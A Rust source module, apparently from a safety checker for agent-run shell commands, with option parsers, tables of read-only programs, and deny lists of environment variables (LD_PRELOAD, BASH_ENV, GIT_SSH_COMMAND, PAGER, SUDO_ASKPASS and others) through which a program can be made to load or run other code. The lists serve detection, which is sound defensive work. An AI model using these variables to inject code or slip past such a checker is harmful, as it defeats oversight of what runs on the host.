//! What each program does, judged from its name and arguments.
//!
//! This module holds the argument helpers, the table of known inspection
//! commands and [`judge`], which tries in turn: [`wrappers`] (programs that
//! run another: sudo, env, sh -c, pct exec, …), shells and interpreters,
//! [`programs`] (tools whose flags or subcommands decide: systemctl, apt,
//! docker, pct, zfs, sed, curl, …), then the readers. [`pipes`] judges what
//! a pipeline feeds into a shell.

mod awk;
mod loss;
mod persist;
mod pipes;
pub(crate) mod programs;
pub(crate) mod projects;
mod pve_commands;
mod pve_spelling;
mod recall;
mod reveals;
mod search;
pub(crate) mod secrets;
mod sed;
mod wrappers;
pub(crate) use loss::sent_loss_word;
pub(crate) use persist::ifupdown_hook;
pub(crate) use search::picks_plain_assignments;
pub(crate) use wrappers::joined_script;
pub(crate) use wrappers::option_alone_destroys;

pub(crate) use secrets::shows_contents;

pub(super) use persist::pointed_at;
pub(super) use pipes::{decodes_or_transforms, literal_output};
pub(crate) use programs::php_apps::app_command;
pub(crate) use reveals::{credential_name, expanded_names, plain_environment};
pub(crate) use wrappers::runuser_names_user;
pub(crate) use wrappers::sh_script;

use super::words::{self, Arg};
use super::{Stdin, Verdict, Walker};

// ---------------------------------------------------------------------------
// Argument helpers.

/// Literal arguments up to `--`.
fn options(args: &[Arg]) -> impl Iterator<Item = &str> {
    args.iter()
        .filter_map(Arg::literal)
        .take_while(|a| *a != "--")
        .filter(|a| a.starts_with('-') && a.len() > 1)
}

/// Whether a short flag (`-x`, also inside clusters like `-rxf`) or a long
/// one (`--name`, `--name=value`) is present.
fn has_flag(args: &[Arg], shorts: &str, longs: &[&str]) -> bool {
    options(args).any(|opt| {
        if let Some(long) = opt.strip_prefix("--") {
            let name = long.split('=').next().unwrap_or(long);
            longs.contains(&name)
        } else {
            let cluster = &opt[1..];
            cluster.chars().any(|c| shorts.contains(c))
        }
    })
}

/// The words of `argv` that only authenticate a read: curl's
/// credentials sent to a path its service documents as a read
/// ([`programs::curl::authenticating_words`]).
pub(crate) fn authenticating_words(argv: &[Arg]) -> Vec<&Arg> {
    match argv.split_first() {
        Some((program, args)) => program
            .literal()
            .map(|name| authenticating_args(name, args))
            .unwrap_or_default(),
        None => Vec::new(),
    }
}

/// [`authenticating_words`] of `name`'s arguments: curl's, and a password
/// from the environment given to a place the egress rules allow on a
/// line the program's table proves (`mosquitto_sub -P "$PASS"`,
/// `transmission-remote -n "$AUTH"`; blind corpus 164).
pub(crate) fn authenticating_args<'a>(name: &str, args: &'a [Arg]) -> Vec<&'a Arg> {
    let options: &[&str] = match name {
        "curl" => return programs::curl::authenticating_words(args),
        "mosquitto_sub" => &["P", "pw"],
        "transmission-remote" => &["n", "auth"],
        _ => return Vec::new(),
    };
    if !crate::tables::proves_read_only(name, args) {
        return Vec::new();
    }
    crate::tables::reading(name, args)
        .map(|line| {
            line.options
                .iter()
                .filter(|g| options.contains(&g.name))
                .filter_map(|g| args.get(g.at + g.from))
                .collect()
        })
        .unwrap_or_default()
}

/// Whether `name`'s table reads one of `names` (short letters, long
/// names) as an option of this line, as the program's parser does: not
/// the value of the option before it (`fdisk -o -l`; review 69). `None`
/// where the table cannot read the line (which it then does not prove
/// either).
pub(crate) fn table_reads_option(name: &str, args: &[Arg], names: &[&str]) -> Option<bool> {
    crate::tables::reading(name, args)
        .map(|line| line.options.iter().any(|g| names.contains(&g.name)))
}

/// Whether rsync (3.2.7, popt) is told only to list (`-n`, `--dry-run`,
/// `--list-only`, `-avn`) by an option of its own, not by the value of the
/// option before it (`--exclude -n`, `-e -n`, `-ean`: review 69).
pub(crate) fn rsync_dry_run(lits: &[&str]) -> bool {
    #[rustfmt::skip]
    const VALUED: &[&str] = &[
        "exclude", "include", "exclude-from", "include-from", "files-from", "filter", "rsh",
        "rsync-path", "temp-dir", "compare-dest", "copy-dest", "link-dest", "block-size",
        "log-file", "log-file-format", "out-format", "partial-dir", "backup-dir", "suffix", "chmod",
        "chown", "usermap", "groupmap", "timeout", "contimeout", "port", "sockopts",
        "password-file", "bwlimit", "max-size", "min-size", "max-delete", "max-alloc",
        "modify-window", "iconv", "checksum-choice", "cc", "compress-choice", "zc",
        "compress-level", "zl", "skip-compress", "remote-option", "info", "debug", "stop-after",
        "time-limit", "stop-at", "write-batch", "only-write-batch", "read-batch", "protocol",
        "outbuf", "address", "early-input", "copy-as", "config", "dparam", "log-format",
    ];
    option_words(lits, "efBTM@", VALUED).iter().any(|w| {
        matches!(
            w,
            OptionWord::Long("dry-run" | "list-only") | OptionWord::Short('n')
        )
    })
}

/// [`programs::git::guest_repository`], for the proof of a read.
pub(crate) fn git_guest_repository(
    lits: &[&str],
    folders: &crate::secret_paths::Folders,
) -> Option<&'static str> {
    programs::git::guest_repository(lits, folders)
}

/// Whether rsync reads per-directory filter files (`--filter=': shadow'`,
/// `. FILE`, `merge`, `dir-merge`, `-F`): a file of each folder walked,
/// or the one named, is read as rules, and a line it cannot read as one
/// is printed in the error (review 127).
pub(crate) fn rsync_filter_files(lits: &[&str]) -> bool {
    lits.iter().enumerate().any(|(i, w)| {
        let value = w
            .strip_prefix("--filter=")
            .or_else(|| {
                matches!(*w, "--filter" | "-f")
                    .then(|| lits.get(i + 1).copied())
                    .flatten()
            })
            .or_else(|| {
                w.strip_prefix("-f")
                    .filter(|v| !v.is_empty() && !w.starts_with("--"))
            });
        value.is_some_and(|v| {
            let v = v.trim_start();
            v.starts_with([':', '.']) || v.starts_with("merge") || v.starts_with("dir-merge")
        }) || (w.starts_with('-') && !w.starts_with("--") && w.contains('F'))
    })
}

/// One option of a line as `getopt_long` (or popt) reads it: its long
/// name, without dashes or a joined value, or one short letter.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum OptionWord<'a> {
    Long(&'a str),
    Short(char),
}

/// The options of `lits` up to `--`, in order, where the options that
/// take a value are `short_valued` (letters) and `long_valued` (names):
/// a value, joined or the next word, is never read as an option (`rsync
/// --exclude -n`, `sfdisk -o -l`; reviews 69 and 70).
pub(crate) fn option_words<'a>(
    lits: &[&'a str],
    short_valued: &str,
    long_valued: &[&str],
) -> Vec<OptionWord<'a>> {
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(word) = lits.get(i) {
        i += 1;
        if *word == "--" {
            break;
        }
        if let Some(long) = word.strip_prefix("--") {
            let (name, joined) = long
                .split_once('=')
                .map_or((long, false), |(n, _)| (n, true));
            out.push(OptionWord::Long(name));
            if !joined && long_valued.contains(&name) {
                i += 1;
            }
        } else if let Some(cluster) = word.strip_prefix('-').filter(|c| !c.is_empty()) {
            for (at, c) in cluster.char_indices() {
                out.push(OptionWord::Short(c));
                // (The rest of the word, or the next one, is its value.)
                if short_valued.contains(c) {
                    if at + c.len_utf8() == cluster.len() {
                        i += 1;
                    }
                    break;
                }
            }
        }
    }
    out
}

/// Whether `word` is `--PREFIX` or `--PREFIX=…` of the long option `long`
/// (getopt_long takes an unambiguous prefix: for sed, whose only long
/// option starting with `i` is `--in-place`, `--in` and `--i` are it).
pub(super) fn abbreviates(word: &str, long: &str) -> bool {
    word.strip_prefix("--")
        .map(|w| w.split('=').next().unwrap_or(w))
        .is_some_and(|given| !given.is_empty() && long.starts_with(given))
}

/// Whether the program's table reads one of the options `names` (as
/// written, without dashes) on the line: as the program parses it, a
/// value that holds the letter or the word is no option (`-Tt`, `--table
/// --test`). False where the table cannot read the line.
pub(super) fn table_gives(program: &str, args: &[Arg], names: &[&str]) -> bool {
    table_reads_option(program, args, names).unwrap_or(false)
}

/// Whether the short option `c` is given, reading clusters as getopt
/// does: a letter after one of `valued` in the same word is that
/// option's value (`-tbookworm` is `-t bookworm`, not `-s`).
fn has_short(args: &[Arg], c: char, valued: &str) -> bool {
    let mut skip_next = false;
    for arg in args {
        if skip_next {
            skip_next = false;
            continue;
        }
        let Some(word) = arg.literal() else { continue };
        if word == "--" {
            return false;
        }
        let Some(cluster) = word.strip_prefix('-').filter(|w| !w.starts_with('-')) else {
            continue;
        };
        for (at, letter) in cluster.char_indices() {
            if letter == c {
                return true;
            }
            if valued.contains(letter) {
                skip_next = at + 1 == cluster.len();
                break;
            }
        }
    }
    false
}

/// Whether a long flag starting with `prefix` is present (`--vacuum-size`).
fn has_long_prefix(args: &[Arg], prefix: &str) -> bool {
    options(args).any(|opt| {
        opt.strip_prefix("--")
            .is_some_and(|l| l.starts_with(prefix))
    })
}

/// Positional arguments: not options, skipping the values of the options
/// listed in `takes_value`; everything after `--`.
fn positionals<'a>(args: &'a [Arg], takes_value: &[&str]) -> Vec<&'a Arg> {
    let mut out = Vec::new();
    let mut skip_next = false;
    let mut rest = false;
    for arg in args {
        if rest {
            out.push(arg);
            continue;
        }
        if skip_next {
            skip_next = false;
            continue;
        }
        match arg.literal() {
            Some("--") => rest = true,
            Some(a) if a.starts_with('-') && a.len() > 1 => {
                if takes_value.contains(&a) {
                    skip_next = true;
                }
            }
            _ => out.push(arg),
        }
    }
    out
}

/// The index in `args` of the first positional argument (see [`positionals`]).
fn first_positional_index(args: &[Arg], takes_value: &[&str]) -> Option<usize> {
    let mut skip_next = false;
    for (i, arg) in args.iter().enumerate() {
        if skip_next {
            skip_next = false;
            continue;
        }
        match arg.literal() {
            Some("--") => return (i + 1 < args.len()).then_some(i + 1),
            Some(a) if a.starts_with('-') && a.len() > 1 => skip_next = takes_next(a, takes_value),
            _ => return Some(i),
        }
    }
    None
}

/// Whether an option word takes the next word as its value, as getopt_long
/// reads it: the option itself (`-u`, `--user`), an unambiguous prefix of
/// a long one that does (`--us`, `--prom` for `--prompt`), or a cluster
/// whose first letter taking a value is its last (`-kg` takes the next
/// word; `-gusers` holds it). Review 90: a wrapper's value read as the
/// command it runs (`sudo -kg users rm …`).
pub(super) fn takes_next(word: &str, takes_value: &[&str]) -> bool {
    if takes_value.contains(&word) {
        return true;
    }
    if let Some(long) = word.strip_prefix("--") {
        let long_values = takes_value.iter().filter_map(|v| v.strip_prefix("--"));
        return !long.is_empty() && !long.contains('=') && {
            let matching: Vec<&str> = long_values.filter(|v| v.starts_with(long)).collect();
            !matching.is_empty()
        };
    }
    let Some(cluster) = word.strip_prefix('-') else {
        return false;
    };
    let mut letters = cluster.char_indices();
    letters
        .find(|(_, c)| takes_value.iter().any(|v| v.len() == 2 && v.ends_with(*c)))
        .is_some_and(|(at, c)| at + c.len_utf8() == cluster.len())
}

/// A wrapper's own options: its arguments before the command it runs (the
/// first positional, skipping the values of `takes_value`). The wrapped
/// command's flags are not the wrapper's: `command rm -v` is not
/// `command -v`, `strace mkdir -p` is not `strace -p`.
fn own_options<'a>(args: &'a [Arg], takes_value: &[&str]) -> &'a [Arg] {
    &args[..first_positional_index(args, takes_value).unwrap_or(args.len())]
}

fn first_dynamic(args: &[Arg]) -> Option<&Arg> {
    args.iter().find(|a| a.is_dynamic())
}

/// For tools whose safety depends on their flags: an argument only known
/// at run time could be any flag.
fn unknown_arg(program: &str, args: &[Arg]) -> Option<Verdict> {
    // (A process substitution read as a file operand after the program's
    // text, `awk '/^Mem/{…}' <(free -m)`, is `/dev/fd/N`, no flag; as an
    // option's value, `-f <(…)`, or the text itself, it counts.)
    let file_operand = |i: usize, a: &Arg| {
        a.raw().starts_with("<(")
            && i > 0
            && args[i - 1].literal().is_some_and(|p| !p.starts_with('-'))
    };
    // (awk's `-v NAME=VALUE` with a value that stays one word, `-v
    // now=$(date +%s)`: data the program reads, never an option; `-v`
    // itself an option, not `-F`'s value, and no program that sets
    // `ARGV` to read a file the value names; review 117.)
    let assignments = awk_assignments(program, args);
    let assignment = |i: usize, a: &Arg| {
        assignments.contains(&i)
            && !a.splits()
            && a.raw()
                .trim_start_matches('"')
                .split_once('=')
                .is_some_and(|(name, _)| {
                    name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
                        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                })
    };
    args.iter()
        .enumerate()
        .find(|&(i, a)| {
            // (A word whose substitutions each print a number, and that
            // starts with none of them as `-`: `"$(wc -l < f)q"`.)
            let number = crate::sources::number_word(a.raw()).is_some();
            a.is_dynamic() && !file_operand(i, a) && !assignment(i, a) && !number
        })
        .map(|(_, a)| {
        Verdict::mutation(format!(
            "`{program}` has an argument only known at run time (`{}`), which could be a writing flag",
            a.raw()
        ))
    })
}

/// A journalctl match, a journal field and its value, no file
/// (`CONTAINER_NAME=vaultwarden`, `_SYSTEMD_UNIT=x.service`; blind corpus
/// 174): what the fields print is its reveal rule's.
fn journal_match(word: &str) -> bool {
    word.split_once('=').is_some_and(|(field, _)| {
        !field.is_empty()
            && field
                .bytes()
                .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
    })
}

/// The indexes of awk's `-v` values (the word after a `-v` that is an
/// option, read as awk's getopt does: `-F -v` gives `-F` the value
/// `-v`), none when the program text names `ARGV` or `ARGC`.
fn awk_assignments(program: &str, args: &[Arg]) -> Vec<usize> {
    awk_option_values(program, args, &["-v", "--assign"])
}

/// awk's words that name no file it reads: the files whose secret
/// columns its program leaves out ([`secrets::awk_leaves_out_secrets`])
/// and its options' values (`-v NAME=VALUE`, `-F SEP`).
pub(crate) fn awk_words_naming_no_file(program: &str, args: &[Arg]) -> Vec<usize> {
    let mut words = secrets::awk_leaves_out_secrets(args);
    words.extend(awk_option_values(
        program,
        args,
        &["-v", "--assign", "-F", "--field-separator"],
    ));
    words
}

/// The indexes of the values awk's options `names` are given, read as its
/// getopt does (`-F -v`: `-F`'s value is `-v`); none when the program
/// text names `ARGV` or `ARGC`.
fn awk_option_values(program: &str, args: &[Arg], names: &[&str]) -> Vec<usize> {
    if !matches!(program, "awk" | "gawk" | "mawk") {
        return Vec::new();
    }
    const VALUED: &[&str] = &[
        "-F",
        "-f",
        "-v",
        "-i",
        "-l",
        "-E",
        "-W",
        "--field-separator",
        "--file",
        "--assign",
        "--include",
        "--load",
        "--exec",
    ];
    let mut found = Vec::new();
    let mut i = 0;
    while let Some(word) = args.get(i).and_then(Arg::literal) {
        if word == "--" || !word.starts_with('-') || word == "-" {
            break;
        }
        if VALUED.contains(&word) {
            if names.contains(&word) {
                found.push(i + 1);
            }
            i += 2;
        } else {
            i += 1;
        }
    }
    let program_text = args.get(i).and_then(Arg::literal).unwrap_or("");
    if program_text.contains("ARGV") || program_text.contains("ARGC") {
        return Vec::new();
    }
    found
}

/// `when` if the condition holds, else `otherwise`.
fn either(condition: bool, when: Verdict, otherwise: Verdict) -> Verdict {
    if condition { when } else { otherwise }
}

/// Judges `program VERB …` from tables of verbs.
fn by_verb(program: &str, verb: Option<&Arg>, read: &[&str], destructive: &[&str]) -> Verdict {
    match verb {
        None => Verdict::read_only(format!("`{program}` without a subcommand only prints")),
        Some(v) => match v.literal() {
            None if destructive.is_empty() => {
                Verdict::mutation(format!("`{program}` subcommand only known at run time"))
            }
            None => Verdict::destructive(format!(
                "`{program}` subcommand only known at run time (`{}`)",
                v.raw()
            )),
            Some(v) if read.contains(&v) => {
                Verdict::read_only(format!("`{program} {v}` only inspects"))
            }
            Some(v) if destructive.contains(&v) => {
                Verdict::destructive(format!("`{program} {v}` loses data or availability"))
            }
            Some(v) => Verdict::mutation(format!("`{program} {v}` changes state")),
        },
    }
}

// ---------------------------------------------------------------------------
// Tables.

/// Inspection commands with no writing flags: read-only whatever their
/// arguments (output redirection is judged separately).
/// Whether `name` is one of [`READERS`] (a set: the list is long, and
/// every command not decided before asks).
/// Whether the rules or tables know `name` as a program, a builtin or a
/// keyword: a function of that name would stand where they read the
/// word as that program (a pipeline's feeder, a guest list's filter, a
/// builtin that sets variables), so [`crate::functions`] keeps none.
pub(crate) fn known_program(name: &str) -> bool {
    const BASH: &[&str] = &[
        "alias",
        "bg",
        "bind",
        "break",
        "builtin",
        "caller",
        "cd",
        "command",
        "compgen",
        "complete",
        "compopt",
        "continue",
        "declare",
        "dirs",
        "disown",
        "echo",
        "enable",
        "eval",
        "exec",
        "exit",
        "export",
        "false",
        "fc",
        "fg",
        "getopts",
        "hash",
        "help",
        "history",
        "jobs",
        "kill",
        "let",
        "local",
        "logout",
        "mapfile",
        "popd",
        "printf",
        "pushd",
        "pwd",
        "read",
        "readarray",
        "readonly",
        "return",
        "set",
        "shift",
        "shopt",
        "source",
        "suspend",
        "test",
        "times",
        "trap",
        "true",
        "type",
        "typeset",
        "ulimit",
        "umask",
        "unalias",
        "unset",
        "wait",
        "if",
        "then",
        "else",
        "elif",
        "fi",
        "case",
        "esac",
        "for",
        "select",
        "while",
        "until",
        "do",
        "done",
        "in",
        "function",
        "time",
        "coproc",
        "command_not_found_handle",
    ];
    BASH.contains(&name)
        || name.starts_with("command_not_found")
        || super::tables::spec(name, &[]).is_some()
        || is_reader(name)
        || VERSIONED.contains(&name)
        || INTERPRETERS.contains(&name)
        || SHELLS.contains(&name)
        || TABLED_CLIENTS.contains(&name)
        || name.starts_with("python")
        || crate::sources::PROGRAMS.contains(&name)
        || wrappers::WRAPPERS.contains(&name)
}

/// Whether a line's program only reads the files its words name: a
/// reader (`cat`, `grep -r`, `diff`), or git's history and diff verbs
/// (their paths are pathspecs; review 134). Such a line that asks for
/// another reason writes none of them.
pub(crate) fn reads_its_operands(argv: &[Arg]) -> bool {
    let Some(program) = argv.first().and_then(Arg::literal) else {
        return false;
    };
    let program = program.rsplit('/').next().unwrap_or(program);
    let verb = argv[1..]
        .iter()
        .filter_map(Arg::literal)
        .scan(false, |value_next, w| {
            let is_value = std::mem::replace(value_next, matches!(w, "-C" | "-c"));
            Some((is_value, w))
        })
        .find(|(is_value, w)| !is_value && !w.starts_with('-'))
        .map(|(_, w)| w);
    // (Not a runner's: `timeout 5 tee FILE` writes through it.)
    (is_reader(program)
        && !wrappers::WRAPPERS.contains(&program)
        && !matches!(program, "env" | "timeout" | "xargs" | "tee"))
        || (program == "git"
            && matches!(
                verb,
                Some("log" | "diff" | "show" | "blame" | "grep" | "shortlog")
            ))
}

fn is_reader(name: &str) -> bool {
    static SET: std::sync::OnceLock<crate::Set<&'static str>> = std::sync::OnceLock::new();
    SET.get_or_init(|| READERS.iter().copied().collect())
        .contains(name)
}

#[rustfmt::skip]
const READERS: &[&str] = &[
    "cat", "tac", "head", "tail", "wc", "grep", "egrep", "fgrep", "zgrep", "zegrep", "rg", "ag",
    "less", "more", "most", "file", "stat", "df", "du", "free", "uptime", "uname", "whoami", "id",
    "groups", "w", "who", "last", "lastb", "lastlog", "pwd", "echo", "printf", "true", "false",
    "test", "[", "which", "whereis", "type", "printenv", "ps", "pgrep", "pidof", "top", "htop",
    "atop", "btop", "lsblk", "blkid", "lscpu", "lsmem", "lspci", "lsusb", "lsof", "lsmod",
    "modinfo", "netstat", "ping", "ping6", "traceroute", "traceroute6", "tracepath", "mtr", "dig", "kdig",
    "nslookup", "host", "getent", "jq", "cut", "column", "diff", "cmp", "comm", "md5sum", "sha1sum",
    "sha224sum", "sha256sum", "sha384sum", "sha512sum", "b2sum", "b3sum", "cksum", "od", "hexdump",
    "strings", "realpath", "readlink", "dirname", "basename", "seq", "sleep", "tree", "zcat",
    "bzcat", "xzcat", "zstdcat", "zless", "zmore", "nl", "fold", "fmt", "pr", "paste", "join",
    "expand", "unexpand", "rev", "tr", "base64", "base32", "basenc", "expr", "bc", "cal", "ncal",
    "locale", "tty", "nproc", "arch", "sensors", "vmstat", "iostat", "mpstat", "pidstat", "sar",
    "findmnt", "lsns", "mountpoint", "getconf", "numfmt", "pveversion", "lsattr", "getfacl",
    "hostid", "logname", "users", "dnsdomainname", "lslocks", "lsipc", "ipcs", "ldd", "readelf", "objdump",
    "nm", "man", "info", "apropos", "whatis", "help", "lsb_release", "ssh-keyscan", "iptables-save",
    "ip6tables-save", "iptables-legacy-save", "ip6tables-legacy-save", "iptables-nft-save",
    "ip6tables-nft-save", "dpkg-query", "apt-cache", "yes", "env", "timeout", "uuidgen", "ls", "dir",
    "vdir", "stty", "tput", "dmidecode", "lshw", "inxi", "iotop", "iftop", "nload", "glances",
    "pvs", "vgs", "lvs", "pvdisplay", "vgdisplay", "lvdisplay", "pvscan", "vgscan", "lvscan", "zdb",
    "arcstat", "arc_summary", "named-checkconf", "named-checkzone", "look", "cd", "pushd", "popd",
    "dirs", ":", "shopt", "wait", "hash", "history", "exit", "return", "break", "continue",
    "unalias", "ulimit", "umask", "read", "getopts", "shift", "let", "jobs", "times", "caller",
    "set", "unset", "pstree", "namei", "losetup", "blockdev", "tune2fs", "dumpe2fs", "fuser",
    "systemd-detect-virt", "systemd-analyze", "bridge", "corosync-cfgtool", "corosync-quorumtool",
    "pg_lsclusters", "pip", "pip3", "mokutil", "proxmox-boot-tool", "e2fsck", "fsck.ext4", "fsck.ext3",
    "fsck.ext2", "ceph", "chronyc", "cryptsetup", "conntrack", "ethtool", "mapfile", "numactl",
    "ipmitool",
    "readarray", "badblocks", "multipath", "ifquery", "dmsetup", "qemu-img", "systemd-cgls", "arp", "route",
    "showmount", "wg", "xfs_info", "xfs_repair", "efibootmgr", "iscsiadm", "nfsstat", "exportfs",
    "lvmconfig", "lxc-ls", "lxc-info", "pve8to9", "pve7to8", "rados", "vma", "atq",
    "ebtables", "psql", "pg_isready", "mysql", "mariadb", "mysqladmin", "mariadb-admin",
    "redis-cli", "valkey-cli", "sqlite3", "fail2ban-client", "tailscale", "nvidia-smi", "rocm-smi", "intel_gpu_top", "clinfo", "vulkaninfo", "dkms",
    "lsinitramfs", "nvidia-container-cli", "nvidia-ctk", "mailq",
    "postqueue", "coredumpctl", "run-parts", "kubectl", "oc", "k3s", "microk8s", "yq", "rbd",
    "nmap", "iperf3", "testparm", "smbstatus", "pdbedit", "proxmox-backup-manager", "proxmox-tape", "fsck", "zramctl", "bootctl",
    "grub-probe", "grub-editenv", "modprobe",
    "debsums",
    "helm", "crictl", "promtool", "pihole", "ha", "proxmox-backup-client", "amtool", "grafana-cli", "restic",
    "postconf", "doveconf", "unbound-checkconf", "numastat", "systemd-cgtop",
    "corosync-cmapctl", "upsc", "upscmd", "unbound-control", "lldpctl", "lldpcli", "checkrestart",
    "pg_restore", "acme.sh", "rclone", "aa-status", "apparmor_status", "cscli", "mosquitto_sub",
    "smbclient", "apcaccess", "rpcinfo", "fd", "fdfind", "slabtop", "ncdu", "fping",
    "getcap", "auditctl", "ausearch", "aureport", "faillock", "rc-status", "apk", "ipset",
    "nstat", "tc", "smem", "cpupower", "atopsar", "ffprobe", "vainfo",
    // Blind corpus 93.
    "qemu-system-x86_64", "qemu-system-aarch64", "kvm", "lxc-checkconfig", "virt-what",
    "virt-host-validate",
    // Blind corpora 45 to 47.
    "fwupdmgr", "edac-util", "ras-mc-ctl", "lsscsi", "partx", "driverctl", "iucode_tool",
    "growpart", "sas2flash", "sas3flash", "logread", "rrdtool", "vgcfgrestore", "mysqlshow",
    "pg_archivecleanup", "redis-check-rdb", "redis-check-aof", "influx",
    // Blind corpora 83 to 85.
    "locate", "plocate", "mlocate",
    // Blind corpus 53.
    "doveadm", "rndc", "qshape", "named-journalprint", "keactrl", "drill",
    // Only as HAProxy's runtime API shown something (the loss rule).
    "socat", "utmpdump", "rc-update", "rc-service", "systemd-escape", "prlimit",
    // Blind corpus 61.
    "rabbitmqctl", "rabbitmq-diagnostics", "rabbitmq-queues", "etcdctl",
    // Blind corpus 64.
    "pfctl", "sockstat",
    // Blind corpus 199.
    "rpm", "dnf", "yum", "pacman", "pactree", "expac", "paccache", "pkg", "firewall-cmd",
    "getenforce", "sestatus", "getsebool", "semanage", "matchpathcon", "restorecon",
    "audit2allow", "grubby", "sysrc", "bectl", "gpart", "freebsd-version", "opnsense-version",
    "systemd-delta", "ldconfig", "pipx", "getpcaps", "nut-scanner", "geom",
    "sesearch", "firewall-offline-cmd",
    // Blind corpus 68.
    "vault", "bao", "klist", "ssh-add", "ldapsearch", "ldapwhoami", "step",
    // Blind corpus 69.
    "vtysh",
    // Blind corpus 70.
    "terraform", "tofu", "ansible", "ansible-playbook", "ansible-inventory", "ansible-config",
    "ansible-doc", "yamllint", "shellcheck", "packer", "cloud-init", "ovs-vsctl", "ovs-ofctl",
    "ovs-appctl",
];

/// Programs without a table whose `--version` is worth answering at once.
#[rustfmt::skip]
const VERSIONED: &[&str] = &[
    "rm", "rmdir", "mv", "cp", "ln", "dd", "shutdown", "reboot", "poweroff", "halt", "mount",
    "umount", "chmod", "chown", "mkdir", "touch", "kill", "pkill", "killall", "useradd",
    "userdel", "passwd", "tar", "gzip", "xz", "zstd", "unzip", "zip", "parted", "fdisk",
    "sfdisk", "wipefs", "lvcreate", "lvremove", "vgcreate", "pvcreate", "iptables", "nft",
    "ufw", "crontab", "install", "truncate", "shred", "sed", "awk", "find", "xargs", "tee",
    "docker", "podman", "nerdctl", "pct", "qm", "pvesh", "pvesm", "pveam", "zfs", "zpool",
    "nginx", "caddy", "go", "rustc", "cargo", "java", "node", "nodejs", "npm", "psql", "mysql",
    "mariadb", "redis-server", "redis-cli", "postgres", "git", "rsync", "ssh", "openssl",
    "systemctl", "journalctl", "apt", "apt-get", "dpkg", "pip", "pip3", "php", "ruby", "perl",
    "lxc-ls", "lxc-info", "ceph", "haproxy", "certbot", "tailscale", "wg", "restic", "borg",
    "gitea", "forgejo", "vaultwarden",
    // Blind corpora 83 and 85: compilers and builders, monitoring daemons,
    // CI runners.
    "make", "gmake", "gcc", "g++", "cc", "clang", "telegraf", "prometheus", "alertmanager",
    "prometheus-node-exporter", "node_exporter", "grafana-server", "zabbix_server",
    "zabbix_proxy", "alloy", "gitlab-runner", "forgejo-runner", "act_runner", "buildah",
    // Blind corpus 94: DNS, DHCP and NTP servers (`-V` is their version).
    "named", "unbound", "chronyd", "ntpd",
    // Blind corpus 132: language tools' package managers.
    "pnpm", "yarn", "poetry", "uv", "pipx", "gem", "bundle", "composer", "mvn",
];

#[rustfmt::skip]
const SHELLS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "rbash",
    // (They read commands from a pipe too; review 85.)
    "csh", "tcsh",
];

#[rustfmt::skip]
const INTERPRETERS: &[&str] = &[
    "perl", "ruby", "node", "nodejs", "php", "lua", "tclsh", "Rscript", "deno", "bun",
];

/// Environment variables that change which program runs or what code it
/// loads: setting them makes what follows unknowable.
#[rustfmt::skip]
const DANGEROUS_VARIABLES: &[&str] = &[
    "PATH", "LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "BASH_ENV", "ENV", "IFS", "PROMPT_COMMAND",
    "PS4", "SHELLOPTS", "BASHOPTS", "GLOBIGNORE", "PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME",
    "PERL5LIB", "PERL5OPT", "RUBYLIB", "RUBYOPT", "NODE_OPTIONS", "NODE_PATH", "GIT_SSH_COMMAND",
    "GIT_EXEC_PATH", "BASH_CMDS", "BASH_ALIASES", "BASH_LOADABLES_PATH", "EXECIGNORE",
    "BASH_COMPAT", "PS0", "PS1", "PS2", "PS3", "OPENSSL_CONF", "OPENSSL_MODULES",
    "OPENSSL_ENGINES", "SSLKEYLOGFILE", "PERL5DB", "LUA_INIT", "LUA_PATH", "LUA_CPATH",
    "JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "PHPRC", "PHP_INI_SCAN_DIR", "R_PROFILE_USER",
    "TCLLIBPATH", "KUBECONFIG", "DOCKER_HOST", "CONTAINER_HOST", "TEXTDOMAIN", "TEXTDOMAINDIR",
    "DBUS_SESSION_BUS_ADDRESS", "DBUS_SYSTEM_BUS_ADDRESS", "SYSTEMD_PAGERSECURE", "NSS_WRAPPER",
    // bash in posix mode reads the rest of the script otherwise (quotes
    // inside `"${x:-…}"`).
    "POSIXLY_CORRECT",
];

/// Where writing is harmless.
#[rustfmt::skip]
const SINKS: &[&str] = &[
    "/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/fd/1", "/dev/fd/2",
    "/proc/self/fd/1", "/proc/self/fd/2",
];

/// Variables that make a program load or run other code, or pick the
/// program it runs (a pager, an editor, a diff tool, its options file):
/// setting one is destructive, before a command or as a statement (a
/// later `export` or child would carry it).
#[rustfmt::skip]
const CODE_VARIABLES: &[&str] = &[
    "LESSOPEN", "LESSCLOSE", "GIT_EXTERNAL_DIFF", "GIT_PAGER", "PAGER", "MANPAGER",
    "SYSTEMD_PAGER", "EDITOR", "VISUAL", "SUDO_EDITOR", "TAR_OPTIONS", "BROWSER", "SUDO_ASKPASS",
    "SSH_ASKPASS", "GIT_ASKPASS", "GCONV_PATH", "PERLLIB", "PERL5DB", "GIT_TEMPLATE_DIR",
    "GIT_DIR", "GIT_WORK_TREE", "XDG_CONFIG_HOME", "HOME", "ZDOTDIR", "INPUTRC",
    "GIT_PROXY_COMMAND", "GIT_SSH", "RSYNC_RSH", "RSYNC_CONNECT_PROG", "SYSTEMD_EDITOR", "PSQLRC",
    "MYSQL_HISTFILE", "LESSKEYIN", "BASH_XTRACEFD",
    // (The program `sudo -s`, `flock -c`, `script` and `su` run commands
    // with; review 85.)
    "SHELL",
    // Options or configuration files a program reads from its
    // environment, as if on its line: ceph appends CEPH_ARGS's words to
    // its arguments (the variable can be the whole command: review 98);
    // less's and more's options (`-o FILE` writes), the compressors',
    // GNU parallel's, a PostgreSQL session's settings, wget's and curl's
    // configuration files.
    "CEPH_ARGS", "LESS", "SYSTEMD_LESS", "MORE", "GREP_OPTIONS", "XZ_OPT", "XZ_DEFAULTS", "GZIP",
    "BZIP", "BZIP2", "ZIPOPT", "UNZIP", "UNZIPOPT", "PARALLEL", "PGOPTIONS", "WGETRC",
    "CURL_HOME", "SYSTEM_WGETRC", "LESSKEY", "LESSKEY_SYSTEM", "LESSKEY_CONTENT", "MANOPT",
    "PSQL_PAGER",
    // Commands clients run for a password or a connection: restic's and
